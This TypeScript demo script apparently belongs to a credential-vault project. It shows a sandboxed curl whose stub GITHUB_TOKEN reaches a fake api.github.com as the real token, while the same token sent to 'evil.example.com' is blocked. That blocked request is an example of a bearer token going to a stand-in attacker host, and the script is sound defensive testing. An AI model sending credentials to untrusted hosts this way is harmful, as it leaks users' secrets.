#!/usr/bin/env node
// `npm run demo:vault` (as root): builds a real test sandbox, runs curl inside it with GITHUB_TOKEN set
// to a stub against a local fake api.github.com, and shows what each side saw. Cleans up after itself.
import { mkdtempSync, rmSync, writeFileSync, chmodSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { startFakeUpstream } from '../tests/support/fake-upstream.ts';
import { auditEvents, setCredentials, setPolicy } from '../tests/support/vault-client.ts';
import { createTestSandbox } from './testbed.ts';

const REAL_TOKEN = 'ghp_DemoRealSecretDoNotLeak0123456789AB';

if (process.getuid?.() !== 0) {
  console.error('demo:vault needs root (it creates a network namespace, a veth pair and iptables rules): sudo npm run demo:vault');
  process.exit(1);
}

const upstream = await startFakeUpstream();
const caDir = mkdtempSync(join(tmpdir(), 'lap-demo-'));
chmodSync(caDir, 0o755);
writeFileSync(join(caDir, 'upstream-ca.pem'), upstream.caPem, { mode: 0o644 });
const hosts = { 'api.github.com': `127.0.0.1:${upstream.httpsPort}`, 'evil.example.com': `127.0.0.1:${upstream.httpsPort}` };
const sandbox = await createTestSandbox({ vaultConfig: { extraCaFiles: [join(caDir, 'upstream-ca.pem')], hosts } });
try {
  const [credential] = await setCredentials(sandbox, [{ name: 'GITHUB_TOKEN', value: REAL_TOKEN, hosts: ['api.github.com'], places: ['header'] }]);
  await setPolicy(sandbox, { default: 'allow', allowPrivate: Object.keys(hosts) });
  const env = { GITHUB_TOKEN: credential!.stub, CURL_CA_BUNDLE: sandbox.caFile };
  const curl = (url: string) => sandbox.exec(['sh', '-c', `curl -sS -i ${url} -H "Authorization: Bearer $GITHUB_TOKEN"`], { env });

  const ok = await curl('https://api.github.com/user');
  const seen = upstream.received.at(-1)!;
  const blocked = await curl('https://evil.example.com/user');
  const events = await auditEvents(sandbox);

  const rows: [string, string, string][] = [
    ['', `inside sandbox ${sandbox.netns} (uid ${sandbox.clientUid})`, 'on the wire to the upstream'],
    ['GITHUB_TOKEN', env.GITHUB_TOKEN, '-'],
    ['Authorization sent', `Bearer ${env.GITHUB_TOKEN}`, String(seen.headers.authorization)],
    ['x-echo-token reply', headerOf(ok.stdout, 'x-echo-token'), String(seen.headers.authorization).replace('Bearer ', '')],
    ['same stub to evil.example.com', statusLine(blocked.stdout), 'nothing: the request never left the vault'],
  ];
  console.log(`\n$ curl https://api.github.com/user -H "Authorization: Bearer $GITHUB_TOKEN"\n`);
  printTable(rows);
  console.log(`\n${blocked.stdout.split('\r\n\r\n')[1]?.trim()}\n`);
  console.log('audit events (names only, never values):');
  for (const e of events) console.log(`  ${JSON.stringify(e)}`);
  console.log('');
} finally {
  await sandbox.close();
  await upstream.close();
  rmSync(caDir, { recursive: true, force: true });
}

function headerOf(response: string, name: string): string {
  const line = response.split('\r\n').find((l) => l.toLowerCase().startsWith(`${name}:`));
  return line ? line.slice(name.length + 1).trim() : '(absent)';
}

function statusLine(response: string): string {
  return response.split('\r\n')[0] ?? '';
}

function printTable(rows: [string, string, string][]) {
  const widths = [0, 1, 2].map((i) => Math.max(...rows.map((r) => r[i]!.length)));
  for (const row of rows) console.log(row.map((cell, i) => cell.padEnd(widths[i]!)).join('  │  '));
}
